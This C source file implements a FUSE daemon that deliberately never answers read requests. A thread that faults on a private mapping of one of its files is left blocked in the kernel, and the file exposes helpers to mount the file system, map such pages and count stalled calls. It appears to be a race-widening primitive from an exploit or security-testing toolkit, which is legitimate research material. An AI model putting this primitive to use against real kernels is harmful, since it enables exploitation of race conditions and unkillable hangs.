// SPDX-License-Identifier: GPL-2.0
/*
 * A file system of ours, of which the kernel learns that there is a file of
 * any name that is a number, and then waits for its contents for ever.
 *
 * Whatever copies to a private mapping of such a file stands still in a page
 * fault, and since the request has been taken, no signal ends that: not even
 * SIGKILL, as the thread that waits holds the descriptors of this very daemon.
 */
#define _GNU_SOURCE
#include "attacks.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEVICE		"/dev/fuse"
#define FILE_SIZE	4096
#define FIRST_NODE	2	/* 1 is the root */

static int device;
static atomic_uint stalled;

static void reply(uint64_t unique, int error, const void *data, size_t len)
{
	struct fuse_out_header head = {
		.len = sizeof(head) + len,
		.error = error,
		.unique = unique,
	};
	char out[512];

	memcpy(out, &head, sizeof(head));
	if (len)
		memcpy(out + sizeof(head), data, len);
	if (write(device, out, head.len) != (ssize_t)head.len)
		die("reply");
}

static struct fuse_attr attributes(uint64_t node)
{
	return (struct fuse_attr) {
		.ino = node,
		.mode = node < FIRST_NODE ? S_IFDIR | 0755 : S_IFREG | 0666,
		.nlink = 1,
		.size = FILE_SIZE,
		.blksize = FILE_SIZE,
	};
}

static void reply_init(const struct fuse_in_header *head)
{
	struct fuse_init_out out = {
		.major = FUSE_KERNEL_VERSION,
		.minor = 31,
		.max_write = FILE_SIZE,
	};

	reply(head->unique, 0, &out, sizeof(out));
}

static void reply_lookup(const struct fuse_in_header *head)
{
	struct fuse_entry_out out = {
		.nodeid = FIRST_NODE + strtoul((const char *)(head + 1), NULL, 10),
		.attr_valid = 1000,
		.entry_valid = 1000,
	};

	out.attr = attributes(out.nodeid);
	reply(head->unique, 0, &out, sizeof(out));
}

static void reply_getattr(const struct fuse_in_header *head)
{
	struct fuse_attr_out out = {
		.attr_valid = 1000,
		.attr = attributes(head->nodeid),
	};

	reply(head->unique, 0, &out, sizeof(out));
}

static void reply_open(const struct fuse_in_header *head)
{
	const struct fuse_open_out out = { .fh = 1 };

	reply(head->unique, 0, &out, sizeof(out));
}

static void serve(const struct fuse_in_header *head)
{
	switch (head->opcode) {
	case FUSE_INIT:
		reply_init(head);
		break;
	case FUSE_LOOKUP:
		reply_lookup(head);
		break;
	case FUSE_GETATTR:
		reply_getattr(head);
		break;
	case FUSE_OPEN:
		reply_open(head);
		break;
	case FUSE_READ:
		stalled++;
		break;
	case FUSE_FORGET:
	case FUSE_INTERRUPT:
		break;
	default:
		reply(head->unique, -ENOSYS, NULL, 0);
	}
}

/* Until somebody aborts the connection. */
static void *serve_for_ever(void *unused)
{
	static char in[1 << 17] __attribute__((aligned(8)));
	ssize_t n;

	(void)unused;
	for (;;) {
		n = read(device, in, sizeof(in));
		if (n >= (ssize_t)sizeof(struct fuse_in_header))
			serve((const struct fuse_in_header *)in);
		else if (errno != EINTR)
			return NULL;
	}
}

/* In a mount namespace that is our own. */
void fuse_mount(const char *where)
{
	char options[64];
	pthread_t thread;

	device = open(DEVICE, O_RDWR | O_CLOEXEC);
	if (device < 0)
		die(DEVICE);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	if (mount("fuse", where, "fuse", MS_NODEV | MS_NOSUID, options))
		die("mount");
	if (pthread_create(&thread, NULL, serve_for_ever, NULL))
		die("pthread_create");
}

void *fuse_page(const char *where, unsigned int nr)
{
	char path[256];
	void *page;
	int fd;

	snprintf(path, sizeof(path), "%s/%u", where, nr);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		die("%s", path);
	page = mmap(NULL, FILE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (page == MAP_FAILED)
		die("mmap");
	close(fd);
	return page;
}

/* Until so many calls stand still. */
void fuse_await_stalled(unsigned int nr)
{
	while (stalled < nr)
		pause_ms(20);
}
